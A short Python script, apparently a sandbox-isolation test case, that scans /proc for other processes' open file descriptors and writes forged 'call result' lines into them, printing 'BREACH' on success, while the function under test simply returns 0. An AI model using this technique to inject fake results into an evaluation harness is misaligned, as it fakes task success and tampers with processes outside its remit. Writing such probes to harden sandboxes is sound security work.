# pipes_fake_call_results
# class: fake results on pipes
# tests: call

import os
data = b'C 0 value 4\nC 1 value 6\nD\n'
for pid in [d for d in os.listdir('/proc') if d.isdigit() and int(d) != os.getpid()]:
    try:
        fds = os.listdir(f'/proc/{pid}/fd')
    except OSError:
        continue
    for fd in fds:
        try:
            w = os.open(f'/proc/{pid}/fd/{fd}', os.O_WRONLY | os.O_NONBLOCK)
            os.write(w, data)
            os.close(w)
            print('BREACH wrote to', pid, fd)
        except OSError:
            pass
for fd in range(3, 64):
    try:
        os.write(fd, data)
    except OSError:
        pass
def f(x):
    return 0
